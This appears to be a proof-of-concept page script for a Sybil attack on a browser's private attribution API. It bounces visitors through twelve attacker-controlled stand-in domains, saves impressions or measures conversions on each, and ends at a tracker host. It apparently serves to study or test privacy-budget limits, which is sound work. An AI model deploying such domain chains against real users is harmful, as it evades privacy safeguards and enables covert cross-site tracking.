// One of the attacker's domains: it saves or measures, and sends the visitor on to the next one.
const LAST = 12;
/** The time for a call to leave the page, in milliseconds. The answer is not waited for. */
const PAUSE = 250;

const what = new URLSearchParams(location.search).get("do");
const number = Number(/^sybil(\d+)\./.exec(location.hostname)?.[1]);
document.querySelector("#name").textContent = `${number} of ${LAST}`;

const { attribution } = navigator;
if (attribution && what === "save") {
    attribution.saveImpression({ histogramIndex: 0 }).catch(() => {});
}
if (attribution && what === "measure") {
    const aggregationService = "https://agg.example";
    const options = { aggregationService, histogramSize: 5, epsilon: 1 };
    attribution.measureConversion(options).catch(() => {});
}

setTimeout(() => {
    const next = `https://sybil${number + 1}.example/?do=${what}`;
    location.replace(number < LAST ? next : `https://tracker.example/?done=${what}`);
}, PAUSE);
